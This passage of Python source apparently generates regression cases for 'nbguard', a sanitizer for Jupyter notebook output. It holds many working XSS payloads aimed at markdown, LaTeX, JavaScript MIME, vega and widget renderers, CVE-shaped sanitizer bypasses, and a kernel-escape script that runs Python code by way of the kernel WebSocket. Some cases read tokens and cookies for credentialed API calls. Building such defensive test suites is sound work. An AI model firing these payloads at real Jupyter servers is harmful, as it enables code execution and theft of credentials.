        ("math-quote-autolink-01", "rt3-md-math-quote-05", "autolink", '<http://x/$"onmouseover="{p}//$>'),
        ("math-quote-paren-alt-01", "rt3-md-math-quote-06", "image alt text, \\\\( delimiters", '![\\\\("onerror="{p}//\\\\)](x)'),
        ("math-quote-bracket-alt-01", "rt3-md-math-quote-07", "image alt text, \\\\[ delimiters", '![\\\\["onerror="{p}//\\\\]](x)'),
        ("math-quote-forged-01", "rt3-md-math-quote-08", "a @@0@\\@ that marked unescapes into alt copies the first math region there", '$" onerror="{p}//$ ![@@0@\\@](x)'),
        ("math-gt-after-code-01", "rt3-md-math-gt-04", "raw <img> after a code span: > inside math", "`x` <img src=x title=$> onerror={p} x=$>"),
        ("math-gt-img-01", "rt3-md-math-gt-01", "raw <img>: > inside math", "<img src=x title=$> onerror={p} x=$>"),
        ("math-gt-block-01", "rt3-md-math-gt-02", "raw HTML block <div>: > inside math", "<div title=$> onmouseover={p} x=$>\nhover\n</div>"),
    ]
    for cid, rt, desc, tpl in math_placeholder:
        c.add(cid, RT(rt) + "markdown math placeholder put back unescaped (" + desc + ")",
              (lambda t: lambda i: {"text/markdown": t.replace("{p}", P(i))})(tpl))
    # nbguard's own rewrite of raw HTML inside math (ids prefixed, attributes dropped, links given
    # rel/target) writes attribute values in " quotes: inside an image's alt they end it
    math_rewrite = [
        ("math-rewrite-id-01", "rt3-md-math-rewrite-01", "id prefixed", "![$<b id=a> onerror={p}// x=$](x)"),
        ("math-rewrite-drop-01", "rt3-md-math-rewrite-02", "unknown attribute dropped", "![$<b title=a foo=1> onerror={p}// x=$](x)"),
        ("math-rewrite-link-01", "rt3-md-math-rewrite-03", "link given rel and target", "![$<a href=y> onerror={p}// x=$](x)"),
    ]
    for cid, rt, desc, tpl in math_rewrite:
        c.add(cid, "NOT-RAW: executes only after an HTML rewrite; " + RT(rt) + "raw HTML in math in image alt text, " + desc,
              (lambda t: lambda i: {"text/markdown": t.replace("{p}", P(i))})(tpl))
    c.add("math-gt-cmd-01", RT("rt3-md-math-gt-03") + "markdown math placeholder put back unescaped (raw <button>: > inside math adds data-commandlinker-command)",
          {"text/markdown": "<button title=$> data-commandlinker-command=help:about x=$>go</button>"})
    c.add("isolated-raw-img-01", RT("rt-isolated-md-01") + "markdown with metadata isolated=true (same-origin iframe): raw <img onerror>",
          lambda i: {"text/markdown": '<img src=x onerror="%s">' % P(i)}, {"text/markdown": {"isolated": True}})
    return c

# --------------------------------------------------------------------------------------
# latex / math
# --------------------------------------------------------------------------------------
def latex_cases():
    c = Cases("latex")
    tex = [
        ("href-js-01", "\\href{javascript:}", "$$\\href{{javascript:{p}}}{{\\text{{click}}}}$$"),
        ("href-js-inline-01", "inline \\href javascript:", "$\\href{{javascript:{p}}}{{x}}$"),
        ("href-js-upper-01", "\\href JAVASCRIPT:", "$$\\href{{JAVASCRIPT:{p}}}{{x}}$$"),
        ("href-data-01", "\\href data:text/html", "$$\\href{{data:text/html,<script>alert(1)</script>}}{{x}}$$"),
        ("href-entity-01", "\\href with %-encoding", "$$\\href{{javascript:%74op.__nbgPwn('{i}')}}{{x}}$$"),
        ("unicode-01", "\\unicode with a font name", "$$\\unicode[some font; sans-serif](x41)$$"),
        ("class-01", "\\class{} (CSS class injection)", "$$\\class{{jp-Dialog}}{{x}}$$"),
        ("style-01", "\\style{} (CSS injection)", "$$\\style{{position:fixed;top:0;left:0;width:100%;height:100%;background:url(javascript:{p})}}{{x}}$$"),
        ("cssid-01", "\\cssId{} (DOM id / clobbering)", "$$\\cssId{{jupyter-config-data}}{{x}}$$"),
        ("require-01", "\\require{} loading an extension", "$$\\require{{data:text/javascript,{pu}}}$$"),
        ("require-action-01", "\\require{action} \\toggle", "$$\\require{{action}}\\toggle{{a}}{{b}}\\endtoggle$$"),
        ("html-in-text-01", "HTML inside \\text{} (MathJax escapes it)", "$$\\text{{<img src=x onerror={p}>}}$$"),
        ("texttt-html-01", "raw HTML around math in text/latex (rendered as text, not HTML)", "<img src=x onerror=\"{p}\"> $x$"),
        ("data-mjx-01", "\\data{} attribute (MathJax 3 html extension)", "$$\\require{{html}}\\data{{onclick={p}}}{{x}}$$"),
    ]
    for cid, src, tpl in tex:
        c.add(cid, "NOT-RAW in JupyterLab 4 (MathJax 3 safe extension filters these); older MathJax 2 / other UIs: LaTeX " + src,
              (lambda t: lambda i: {"text/latex": t.format(p=P(i), i=i, pu=urllib.parse.quote(P(i)))})(tpl))
    return c

# --------------------------------------------------------------------------------------
# javascript MIME types
# --------------------------------------------------------------------------------------
def javascript_cases():
    c = Cases("javascript")
    for mime in ("application/javascript", "text/javascript"):
        tag = mime.split("/")[0]
        c.add("%s-basic-01" % tag, "JupyterLab javascript-extension: %s output is executed when trusted" % mime,
              lambda i, m=mime: {m: P(i), "text/plain": "<IPython.core.display.Javascript object>"})
        c.add("%s-alert-01" % tag, "IPython.display.Javascript('alert(1)') as %s" % mime,
              lambda i, m=mime: {m: "alert(1)", "text/plain": "<IPython.core.display.Javascript object>"})
        c.add("%s-api-01" % tag, "own: %s starting a kernel through the REST API" % mime,
              lambda i, m=mime: {m: "fetch('/api/kernels',{method:'POST',headers:{'X-XSRFToken':%s}}).then(function(){%s})" % (XSRF, P(i))})
    c.add("application-element-01", "IPython Javascript using the classic `element` variable (defined in classic Notebook)",
          lambda i: {"application/javascript": "try{element.append('x')}catch(e){}\n" + P(i)})
    c.add("application-require-01", "IPython Javascript with lib= (requirejs-style loader, falls back to plain script)",
          lambda i: {"application/javascript": "var s=document.createElement('script');s.src='data:text/javascript,'+encodeURIComponent(\"%s\");document.head.appendChild(s)" % P(i)})
    c.add("application-multiline-01", "JS as a list of lines (nbformat multiline; live kernels send strings, a loaded notebook and the harness join the lines)",
          lambda i: {"application/javascript": ["var a = 1;\n", "%s;\n" % P(i)]})
    c.add("application-obfuscated-01", "own: obfuscated JS",
          lambda i: {"application/javascript": "window[atob('X19uYmdQd24=')]('%s')" % i})
    c.add("application-with-html-01", "own: HTML fallback plus JS (frontend picks JS first)",
          lambda i: {"application/javascript": P(i), "text/html": "<b>chart</b>"})
    c.add("application-navigate-01", "own: navigate top away", {"application/javascript": "top.location='/pwned'"})
    c.add("x-javascript-01", "NOT-RAW: application/x-javascript has no renderer in JupyterLab",
          lambda i: {"application/x-javascript": P(i), "text/plain": "js"})
    c.add("ecmascript-01", "NOT-RAW: application/ecmascript has no renderer in JupyterLab",
          lambda i: {"application/ecmascript": P(i), "text/plain": "js"})
    c.add("json-html-strings-01", "NOT-RAW (the JSON renderer shows strings as text): application/json carrying markup",
          lambda i: {"application/json": {"html": '<img src=x onerror="%s">' % P(i), "js": "javascript:" + P(i)}, "text/plain": "{}"})
    c.add("json-expanded-01", "NOT-RAW: application/json with expanded metadata and markup keys",
          lambda i: {"application/json": {'<img src=x onerror="%s">' % P(i): [1, 2]}}, {"application/json": {"expanded": True}})
    c.add("bokeh-exec-01", "bokeh exec bundle: the exec type needs the bokeh extension, its application/javascript fallback runs anyway",
          lambda i: {"application/vnd.bokehjs_exec.v0+json": "", "application/javascript": P(i)},
          {"application/vnd.bokehjs_exec.v0+json": {"id": "1001"}})
    c.add("bokeh-load-01", "NOT-RAW without the bokeh extension: application/vnd.bokehjs_load.v0+json",
          lambda i: {"application/vnd.bokehjs_load.v0+json": P(i)})
    c.add("holoviews-exec-01", "holoviews exec bundle: the exec type needs the extension, its application/javascript fallback runs anyway",
          lambda i: {"application/vnd.holoviews_exec.v0+json": "", "application/javascript": P(i)},
          {"application/vnd.holoviews_exec.v0+json": {"id": "p1002"}})
    c.add("holoviews-load-01", "NOT-RAW without the holoviews extension: application/vnd.holoviews_load.v0+json",
          lambda i: {"application/vnd.holoviews_load.v0+json": P(i)})
    return c

# --------------------------------------------------------------------------------------
# jupyter-specific / CVE shapes
# --------------------------------------------------------------------------------------
KERNEL_ESCAPE = (
    "(async function(){{var x={xsrf};var h={{'X-XSRFToken':x,'Content-Type':'application/json'}};"
    "var r=await fetch('/api/kernels',{{method:'POST',headers:h,body:'{{}}'}});var k={{id:'x'}};try{{k=await r.json()}}catch(e){{}}"
    "var ws=new WebSocket((location.protocol=='https:'?'wss://':'ws://')+location.host+'/api/kernels/'+k.id+'/channels');"
    "ws.onopen=function(){{ws.send(JSON.stringify({{header:{{msg_id:'m1',msg_type:'execute_request',username:'',session:'s1',version:'5.3'}},"
    "parent_header:{{}},metadata:{{}},channel:'shell',content:{{code:\"open('/tmp/nbguard-pwned','w').write('x')\",silent:false,store_history:false,user_expressions:{{}},allow_stdin:false}}}}))}};"
    "{after}}})()"
)


def jupyter_cases():
    c = Cases("jupyter")
    ke = lambda i, after="": KERNEL_ESCAPE.format(xsrf=XSRF, after=after)
    c.add("kernel-escape-script-01", "own: JS-to-Python escape: POST /api/kernels with the _xsrf cookie, then execute_request over the kernel WebSocket",
          lambda i: "<script>%s</script>" % ke(i, P(i) + ";"))
    c.add("kernel-escape-onerror-01", "own: JS-to-Python escape from an img onerror",
          lambda i: '<img src=x onerror="%s">' % ke(i).replace('"', "&quot;"))
    c.add("kernel-escape-js-mime-01", "own: JS-to-Python escape as application/javascript",
          lambda i: {"application/javascript": ke(i, P(i) + ";")})
    c.add("kernel-escape-markdown-01", "own: JS-to-Python escape hidden in Markdown",
          lambda i: {"text/markdown": "Results below.\n\n<script>%s</script>" % ke(i)})
    c.add("token-from-pageconfig-01", "own: read the API token from the page config, call /api/kernels with it",
          lambda i: "<script>var t=%s.token||'';fetch('/api/kernels?token='+t,{method:'POST',headers:{'Authorization':'token '+t,'X-XSRFToken':%s}});%s</script>" % (CFG, XSRF, P(i)))
    c.add("ws-direct-01", "own: open the kernel channels WebSocket directly",
          lambda i: "<script>new WebSocket('ws://'+location.host+'/api/kernels/x/channels');%s</script>" % P(i))
    c.add("xhr-kernels-01", "own: XMLHttpRequest POST /api/kernels with the xsrf header",
          lambda i: "<script>var x=new XMLHttpRequest();x.open('POST','/api/kernels');x.setRequestHeader('X-XSRFToken',%s);x.send('{}');%s</script>" % (XSRF, P(i)))
    c.add("form-post-kernels-01", "own: form POST to /api/kernels (click) carries cookies but no xsrf header",
          '<form method="post" action="/api/kernels"><button>Start</button></form>')
    c.add("form-post-kernels-xsrf-01", "own: form POST to /api/kernels with _xsrf filled in by script",
          lambda i: "<form id=\"nbgk\" method=\"post\" action=\"/api/kernels\" target=\"nbgsink\"><input type=\"hidden\" name=\"_xsrf\"></form><iframe name=\"nbgsink\" style=\"display:none\"></iframe><script>var f=document.getElementById('nbgk');f._xsrf.value=%s;f.submit();%s</script>" % (XSRF, P(i)))
    c.add("cve-2021-32797-form-01", "CVE-2021-32797 (JupyterLab untrusted output: form action not sanitized)",
          lambda i: '<form action="javascript:%s"><input type="submit" value="Click to continue"></form>' % P(i))
    c.add("cve-2021-32798-button-01", "CVE-2021-32798 (classic Notebook untrusted output: Google Caja let formaction through)",
          lambda i: '<form><button formaction="javascript:%s">Click</button></form>' % P(i))
    c.add("cve-2021-32798-math-01", "CVE-2021-32798 variant: formaction button inside MathML-looking markup",
          lambda i: '<math><mi><form><button formaction="javascript:%s">x</button></form></mi></math>' % P(i))
    c.add("cve-2024-43805-clobber-01", "GHSA-9q39-rmj3-p4r2 / CVE-2024-43805 shape: markdown with id/name attributes clobbering globals, plus a handler",
          lambda i: {"text/markdown": '<img name="getElementById" src="x" onerror="%s">\n\n<form id="jupyter-config-data"></form>' % P(i)})
    c.add("cve-2024-22421-link-01", "NOT-RAW (needs a third-party redirect): CVE-2024-22421 shape: link to a /files/ path that leaks tokens to a third party (click)",
          '<a href="/files/..%2F..%2Fpwned">open</a>')
    c.add("commandlinker-run-01", "JupyterLab CommandLinker (wired by the JupyterLab app and the harness) button (data-commandlinker-command) running a JupyterLab command on click",
          '<button data-commandlinker-command="notebook:run-all-cells">Run all</button>')
    c.add("commandlinker-console-01", "JupyterLab CommandLinker (wired by the JupyterLab app and the harness): open a terminal / console",
          '<button data-commandlinker-command="terminal:create-new">Open</button><button data-commandlinker-command="console:create" data-commandlinker-args="{&quot;kernelPreference&quot;:{&quot;name&quot;:&quot;python3&quot;}}">Console</button>')
    c.add("commandlinker-kernel-01", "JupyterLab CommandLinker (wired by the JupyterLab app and the harness): kernel commands",
          '<a data-commandlinker-command="kernelmenu:restart" data-commandlinker-args="{}">restart</a>')
    c.add("nbconvert-cve-2021-32862-svg-01", "CVE-2021-32862 (nbconvert HTML export): SVG output inlined unsanitized",
          lambda i: {"image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg" onload="%s"/>' % P(i), "text/html": '<svg><image href="x" onerror="%s"/></svg>' % P(i)})
    c.add("nbconvert-cve-2021-32862-alt-01", "CVE-2021-32862 shape: metadata used as an attribute (alt/width) breaking out",
          lambda i: {"image/png": "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==", "text/html": '<img src=x onerror="%s">' % P(i)},
          {"image/png": {"width": "1\" onerror=\"alert(1)", "height": 1}})
    c.add("notebook-cve-2018-8768-01", "CVE-2018-8768 shape (classic Notebook: untrusted-notebook sanitizer bypass via forged output)",
          lambda i: '<a href="#" id="nbg8768"><img src=x onerror="%s"></a>' % P(i))
    c.add("notebook-cve-2019-9644-01", "CVE-2019-9644 shape (XSSI of notebook resources) – reading /api/contents from same-origin script",
          lambda i: "<script>fetch('/api/contents',{credentials:'same-origin',headers:{'X-XSRFToken':%s}}).then(function(){%s})</script>" % (XSRF, P(i)))
    c.add("jupyter-widget-html-in-html-01", "own: text/html pretending to be widget output with a script",
          lambda i: '<div class="jupyter-widgets widget-html"><script>%s</script></div>' % P(i))
    c.add("jp-classes-overlay-01", "own: UI-redress overlay using JupyterLab classes, onclick",
          lambda i: '<div class="jp-Dialog" style="position:fixed;inset:0;z-index:10000;background:rgba(0,0,0,.01)" onclick="%s"><button>OK</button></div>' % P(i))
    c.add("output-area-prompt-spoof-01", "own: spoofed input prompt with an autofocus handler",
          lambda i: '<div class="jp-InputPrompt">In [1]:</div><input class="jp-InputArea-editor" autofocus onfocus="%s">' % P(i))
    c.add("service-worker-01", "own: register a service worker from a data/blob URL (blocked) then call the API",
          lambda i: "<script>try{navigator.serviceWorker.register('/files/sw.js')}catch(e){};%s</script>" % P(i))
    c.add("localstorage-01", "own: write JupyterLab state in localStorage then call home",
          lambda i: "<script>localStorage.setItem('@jupyterlab/nbguard','x');%s</script>" % P(i))
    c.add("postmessage-01", "own: postMessage to the parent window",
          lambda i: "<script>top.postMessage({type:'nbg'},'*');%s</script>" % P(i))
    return c

# --------------------------------------------------------------------------------------
# api / exfil
# --------------------------------------------------------------------------------------
def api_cases():
    c = Cases("api")
    h = "{'X-XSRFToken':%s,'Content-Type':'application/json'}" % XSRF
    calls = [
        ("kernels-post-01", "POST /api/kernels", "fetch('/api/kernels',{method:'POST',headers:%s,body:'{}'})" % h),
        ("kernels-get-01", "GET /api/kernels (list, needs auth cookie)", "fetch('/api/kernels',{headers:%s})" % h),
        ("sessions-post-01", "POST /api/sessions", "fetch('/api/sessions',{method:'POST',headers:%s,body:JSON.stringify({path:'x.ipynb',type:'notebook',name:'',kernel:{name:'python3'}})})" % h),
        ("contents-put-01", "PUT /api/contents (write a file)", "fetch('/api/contents/pwned.py',{method:'PUT',headers:%s,body:JSON.stringify({type:'file',format:'text',content:'import os'})})" % h),
        ("contents-get-01", "GET /api/contents (read files)", "fetch('/api/contents/',{headers:%s})" % h),
        ("terminals-post-01", "POST /api/terminals", "fetch('/api/terminals',{method:'POST',headers:%s})" % h),
        ("config-patch-01", "PATCH /api/config (persist a malicious setting)", "fetch('/api/config/notebook',{method:'PATCH',headers:%s,body:'{}'})" % h),
        ("kernelspecs-01", "GET /api/kernelspecs", "fetch('/api/kernelspecs',{headers:%s})" % h),
        ("xhr-contents-01", "XHR PUT /api/contents", "var x=new XMLHttpRequest();x.open('PUT','/api/contents/pwned.txt');x.setRequestHeader('X-XSRFToken',%s);x.send(JSON.stringify({type:'file',format:'text',content:'x'}))" % XSRF),
        ("ws-channels-01", "WebSocket to /api/kernels/<id>/channels", "new WebSocket('ws://'+location.host+'/api/kernels/x/channels')"),
        ("ws-terminal-01", "WebSocket to /terminals/websocket/1", "new WebSocket('ws://'+location.host+'/terminals/websocket/1')"),
        ("beacon-01", "navigator.sendBeacon to /api/kernels", "navigator.sendBeacon('/api/kernels','{}')"),
        ("token-header-01", "token from page config as Authorization header", "var t=%s.token;fetch('/api/kernels',{method:'POST',headers:{'Authorization':'token '+t,'X-XSRFToken':%s}})" % (CFG, XSRF)),
        ("cookie-exfil-01", "read document.cookie and put it in a same-origin request", "fetch('/api/contents/'+encodeURIComponent(document.cookie).slice(0,50),{headers:%s})" % h),
    ]
    for cid, desc, code in calls:
        c.add(cid + "-script", "own: api via <script>: " + desc, "<script>%s</script>" % code)
    for cid, desc, code in calls[:8]:
        c.add(cid + "-onerror", "own: api via img onerror: " + desc,
              '<img src=x onerror="%s">' % code.replace("&", "&amp;").replace('"', "&quot;"))
    c.add("fetch-then-pwn-01", "own: api request followed by a marker call",
          lambda i: "<script>fetch('/api/kernels',{method:'POST',headers:%s}).finally(function(){%s})</script>" % (h, P(i)))
    c.add("iframe-lab-01", "own: load the Lab page itself in an iframe and drive it", lambda i: '<iframe src="/lab" onload="%s"></iframe>' % P(i))
    return c

# --------------------------------------------------------------------------------------
# vega / vega-lite
# --------------------------------------------------------------------------------------
def vega_cases():
    c = Cases("vega")
    VL = "application/vnd.vegalite.v5+json"
    VG = "application/vnd.vega.v5+json"
    data = {"values": [{"a": "A", "b": 28}, {"a": "B", "b": 55}]}

    def vl(extra):
        spec = {"$schema": "https://vega.github.io/schema/vega-lite/v5.json", "data": data,
                "mark": "bar", "encoding": {"x": {"field": "a", "type": "nominal"},
                                             "y": {"field": "b", "type": "quantitative"}}}
        spec.update(extra)
        return spec

    c.add("vl-href-js-01", "NOT-RAW (vega-loader sanitize blocks javascript:): vega-lite href encoding",
          lambda i: {VL: vl({"encoding": {"x": {"field": "a", "type": "nominal"}, "y": {"field": "b", "type": "quantitative"},
                                           "href": {"value": "javascript:" + P(i)}}}), "text/plain": "chart"})
    c.add("vl-href-field-01", "NOT-RAW: vega-lite href from a data field",
          lambda i: {VL: vl({"data": {"values": [{"a": "A", "b": 1, "u": "javascript:" + P(i)}]},
                             "encoding": {"x": {"field": "a", "type": "nominal"}, "y": {"field": "b", "type": "quantitative"},
                                          "href": {"field": "u"}}}), "text/plain": "chart"})
    c.add("vl-usermeta-sourceheader-01", "own: vega-embed usermeta.embedOptions.sourceHeader written into a same-origin window (click 'View Source')",
          lambda i: {VL: vl({"usermeta": {"embedOptions": {"actions": True, "sourceHeader": "<img src=x onerror=\"opener.%s\">" % P(i)}}}), "text/plain": "chart"})
    c.add("vl-embed-options-sourcefooter-01", "own: JupyterLab passes metadata.embed_options to vega-embed: sourceFooter HTML",
          lambda i: {VL: vl({}), "text/plain": "chart"},
          lambda i: {VL: {"embed_options": {"actions": True, "sourceFooter": "<img src=x onerror=\"opener.%s\">" % P(i)}}})
    c.add("vl-usermeta-editorurl-01", "own: usermeta.embedOptions.editorUrl javascript: (click 'Open in Vega Editor')",
          lambda i: {VL: vl({"usermeta": {"embedOptions": {"actions": True, "editorUrl": "javascript:opener." + P(i)}}}), "text/plain": "chart"})
    c.add("vl-select-filter-scale-01", "NOT-RAW with the patched vega in JupyterLab 4.6 (older vega releases): vega/vega#3984: event filter scale(event.view.setTimeout, code) (hover)",
          lambda i: {VL: vl({"params": [{"name": "p", "select": {"type": "point", "on": "mouseover[scale(event.view.setTimeout,'%s')]" % P(i).replace("'", "\\'")}}]}), "text/plain": "chart"})
    c.add("vg-signal-event-view-01", "NOT-RAW with the patched vega in JupyterLab 4.6 (older vega releases): vega expression gadget: event.view reached from a window:mousemove signal (hover)",
          lambda i: {VG: {"$schema": "https://vega.github.io/schema/vega/v5.json", "width": 100, "height": 50,
                          "signals": [{"name": "s", "on": [{"events": "window:mousemove", "update": "scale(event.view.setTimeout,'%s')" % P(i)}]}]},
                     "text/plain": "chart"})
    c.add("vg-lassoappend-01", "NOT-RAW with the patched vega in JupyterLab 4.6 (older vega releases): CVE-2023-26487 shape: lassoAppend with a crafted object",
          lambda i: {VG: {"$schema": "https://vega.github.io/schema/vega/v5.json",
                          "signals": [{"name": "s", "on": [{"events": "window:mousemove", "update": "lassoAppend({'__proto__':[]},0,0,1)"}]},
                                      {"name": "t", "on": [{"events": "window:mousemove", "update": "scale(event.view.setTimeout,'%s')" % P(i)}]}]},
                     "text/plain": "chart"})
    c.add("vg-tostring-01", "NOT-RAW with the patched vega in JupyterLab 4.6 (older vega releases): CVE-2023-26486 shape: expression reaching a function through toString/scale",
          lambda i: {VG: {"$schema": "https://vega.github.io/schema/vega/v5.json",
                          "signals": [{"name": "s", "init": "scale('setTimeout','%s')" % P(i)}]}, "text/plain": "chart"})
    c.add("vg-href-mark-01", "NOT-RAW: vega mark href javascript:",
          lambda i: {VG: {"$schema": "https://vega.github.io/schema/vega/v5.json", "width": 50, "height": 50,
                          "marks": [{"type": "rect", "encode": {"enter": {"x": {"value": 0}, "y": {"value": 0}, "width": {"value": 50},
                                                                       "height": {"value": 50}, "href": {"value": "javascript:" + P(i)}}}}]},
                     "text/plain": "chart"})
    c.add("vg-text-html-01", "NOT-RAW (vega-tooltip escapes HTML by default): vega tooltip with HTML",
          lambda i: {VG: {"$schema": "https://vega.github.io/schema/vega/v5.json", "width": 50, "height": 50,
                          "marks": [{"type": "rect", "encode": {"enter": {"width": {"value": 50}, "height": {"value": 50},
                                                                       "tooltip": {"value": "<img src=x onerror=%s>" % P(i)}}}}]},
                     "text/plain": "chart"})
    c.add("vl-data-url-01", "own: vega-lite data url pointing at the API (credentialed GET via loader)",
          {VL: vl({"data": {"url": "/api/contents/"}}), "text/plain": "chart"})
    c.add("vl-image-mark-js-01", "NOT-RAW: image mark url javascript:",
          lambda i: {VL: vl({"mark": "image", "encoding": {"url": {"value": "javascript:" + P(i)}}}), "text/plain": "chart"})

    # credentialed data URLs the loader computes or finds elsewhere in the spec
    VGS = "https://vega.github.io/schema/vega/v5.json"
    VLS = "https://vega.github.io/schema/vega-lite/v5.json"
    c.add("vg-data-url-signal-01", RT("rt-vega-url-signal-01") + "vega data url given as a {signal} expression (not a string): credentialed same-origin GET",
          {VG: {"$schema": VGS, "width": 50, "height": 50,
                "data": [{"name": "t", "url": {"signal": "'/api/contents/'"}, "format": {"type": "json"}}]}, "text/plain": "chart"})
    c.add("vg-data-url-signal-concat-01", RT("rt-vega-url-signal-concat-01") + "vega data url {signal} concatenating another signal's value",
          {VG: {"$schema": VGS, "width": 50, "height": 50, "signals": [{"name": "u", "value": "/api/"}],
                "data": [{"name": "t", "url": {"signal": "u + 'kernels'"}, "format": {"type": "json"}}]}, "text/plain": "chart"})
    c.add("vl-data-url-signal-01", RT("rt-vl-url-signal-01") + "vega-lite data url as a {signal} object",
          {VL: {"$schema": VLS, "data": {"url": {"signal": "'/api/contents/'"}}, "mark": "point"}, "text/plain": "chart"})
    c.add("vl-data-url-format-01", RT("rt-vl-url-upper-key-01") + "vega-lite data url to the API with an explicit json format",
          {VL: {"$schema": VLS, "data": {"url": "/api/contents/", "format": {"type": "json"}}, "mark": "point"}, "text/plain": "chart"})
    c.add("vl-lookup-data-url-01", RT("rt-vega-lookup-data-url-01") + "vega-lite lookup transform whose from.data has a url",
          {VL: {"$schema": VLS, "data": {"values": [{"a": 1}]},
                "transform": [{"lookup": "a", "from": {"data": {"url": "/api/contents/"}, "key": "a", "fields": ["b"]}}],
                "mark": "point"}, "text/plain": "chart"})
    # loopback host spellings a naive host check misses (the browser normalises them to 127.0.0.1)
    loopback = [
        ("octal", "rt-vl-url-loopback-octal-01", "0177.0.0.1"),
        ("octal-zeros", "rt-vl-url-loopback-octal2-01", "0177.00.00.01"),
        ("pct-dot", "rt-vl-url-loopback-pct-dot-01", "127%2e0.0.1"),
        ("fullwidth", "rt-vl-url-loopback-fullwidth-01", "\uff11\uff12\uff17.0.0.1"),
        ("pct-all", "rt-vl-url-loopback-pct-all-01", "%31%32%37.0.0.1"),
        ("ideographic-dot", "rt-vl-url-loopback-ideographic-dot-01", "127\u30020\u30020\u30021"),
        ("hex-part", "rt-vl-url-loopback-hex-part-01", "0x7f.0.0.1"),
        ("trailing-dot", "rt-vl-url-loopback-trailing-dot-quad-01", "0177.0.0.1."),
        ("circled", "rt-vl-url-loopback-circled-01", "\u2460\u2461\u2466.0.0.1"),
    ]
    for name, rt, host in loopback:
        c.add("vl-data-url-loopback-%s-01" % name,
              "NOT-RAW in the standard harness (it listens on a random port; the URL names port 18765, so it executes when the "
              "page is served from 127.0.0.1:18765, as in the red team's fixed-port harness copy, or a Jupyter server on loopback "
              "at the URL's port): " + RT(rt) + "vega-lite data url whose host is a loopback spelling (%s): credentialed same-origin GET" % host,
              {VL: {"$schema": VLS, "data": {"url": "http://%s:18765/api/contents/" % host, "format": {"type": "json"}}, "mark": "point"},
               "text/plain": "chart"})
    # vega-embed "View Source" / "View Compiled" write the spec unescaped into a same-origin popup (click)
    vs = "vega-embed's View Source writes the spec JSON unescaped into a same-origin window (click the actions menu, then View Source): "
    c.add("vl-viewsource-title-01", RT("rt-vl-viewsource-title-02") + vs + "markup in the chart title",
          lambda i: {VL: vl({"title": "Sales</code><img src=x onerror=%s>" % P(i, "(opener)")}), "text/plain": "chart"})
    c.add("vl-viewsource-data-01", RT("rt-vl-viewsource-data-02") + vs + "markup in an inline data value",
          lambda i: {VL: vl({"data": {"values": [{"a": "<img src=x onerror=%s>" % P(i, "(opener)"), "b": 1}]}}), "text/plain": "chart"})
    c.add("vl-viewsource-description-01", RT("rt-vl-viewsource-desc-02") + vs + "</pre><script> in the description",
          lambda i: {VL: vl({"description": "</code></pre><script>%s</script>" % P(i, "(opener)")}), "text/plain": "chart"})
    c.add("vg-viewsource-description-01", RT("rt-vg-viewsource-02") + vs + "vega (not lite) spec with markup in its description",
          lambda i: {VG: {"$schema": VGS, "width": 50, "height": 50, "description": "<img src=x onerror=%s>" % P(i, "(opener)"),
                          "marks": [{"type": "rect", "encode": {"enter": {"width": {"value": 50}, "height": {"value": 50}}}}]},
                     "text/plain": "chart"})
    c.add("vl-viewcompiled-title-01", RT("rt-vl-viewcompiled-02") + "vega-embed's View Compiled (same-origin window): markup in an axis title surviving compilation",
          lambda i: {VL: vl({"encoding": {"x": {"field": "a", "type": "nominal", "title": "<img src=x onerror=%s>" % P(i, "(opener)")},
                                          "y": {"field": "b", "type": "quantitative"}}}), "text/plain": "chart"})
    c.add("vl-viewsource-api-01", RT("rt-vl-viewsource-api-01") + vs + "the popup makes a credentialed API request with the opener's cookie",
          {VL: vl({"title": "<img src=x onerror=fetch('/api/kernels',{method:'POST'})>"}), "text/plain": "chart"})
    return c

# --------------------------------------------------------------------------------------
# widgets
# --------------------------------------------------------------------------------------
def layout_ref():
    return "IPY_MODEL_layout1"


def html_state(value, **extra):
    s = {"_dom_classes": [], "_model_module": "@jupyter-widgets/controls", "_model_module_version": "2.0.0",
         "_model_name": "HTMLModel", "_view_count": None, "_view_module": "@jupyter-widgets/controls",
         "_view_module_version": "2.0.0", "_view_name": "HTMLView", "description": "",
         "description_allow_html": False, "layout": layout_ref(), "placeholder": "\u200b",
         "style": "IPY_MODEL_style1", "tabbable": None, "tooltip": None, "value": value}
    s.update(extra)
    return s


def widget_cases():
    c = Cases("widget")
    # Executed in the harness's ipywidgets 8 view emulation; the rest are inert there.
    inert = {"html-value-script-01", "htmlmath-href-01", "desc-allow-html-01", "label-desc-html-01",
             "text-desc-html-01", "slider-desc-html-01", "tooltip-01", "button-icon-01",
             "label-value-html-01", "dropdown-options-01", "unknown-module-01"}
    inert_note = {
        "html-value-script-01": "innerHTML does not run <script>",
        "htmlmath-href-01": "MathJax safe extension",
        "desc-allow-html-01": "the widget manager sanitizes descriptions",
        "label-desc-html-01": "the widget manager sanitizes descriptions",
        "text-desc-html-01": "the widget manager sanitizes descriptions",
        "slider-desc-html-01": "the widget manager sanitizes descriptions",
        "tooltip-01": "title attribute",
        "button-icon-01": "icon is a class name",
        "label-value-html-01": "rendered as text",
        "dropdown-options-01": "rendered as option text",
        "unknown-module-01": "module not loadable; real risk when a notebook names a CDN module",
    }

    def w(model_name, state, view="HTMLView", module="@jupyter-widgets/controls"):
        st = dict(state)
        st["_model_name"] = model_name
        st["_view_name"] = view
        st["_model_module"] = module
        st["_view_module"] = module
        return {"model_id": "w1", "model_module": module, "model_module_version": "2.0.0",
                "model_name": model_name, "state": st}

    def bundle(text):
        return {"application/vnd.jupyter.widget-view+json": {"model_id": "w1", "version_major": 2, "version_minor": 0},
                "text/plain": text}

    cases = [
        ("html-value-img-01", "HTMLModel value img onerror", "HTMLModel", "HTMLView", lambda i: html_state('<img src=x onerror="%s">' % P(i))),
        ("html-value-script-01", "HTMLModel value script (not run by innerHTML)", "HTMLModel", "HTMLView", lambda i: html_state("<script>%s</script>" % P(i))),
        ("html-value-svg-01", "HTMLModel value svg animate onbegin", "HTMLModel", "HTMLView", lambda i: html_state('<svg><animate onbegin="%s" attributeName="x" dur="1s"/></svg>' % P(i))),
        ("html-value-iframe-01", "HTMLModel value iframe javascript:", "HTMLModel", "HTMLView", lambda i: html_state('<iframe src="javascript:%s"></iframe>' % P(i))),
        ("html-value-details-01", "HTMLModel value details ontoggle", "HTMLModel", "HTMLView", lambda i: html_state('<details open ontoggle="%s"></details>' % P(i))),
        ("html-value-anim-01", "HTMLModel value animation event", "HTMLModel", "HTMLView",
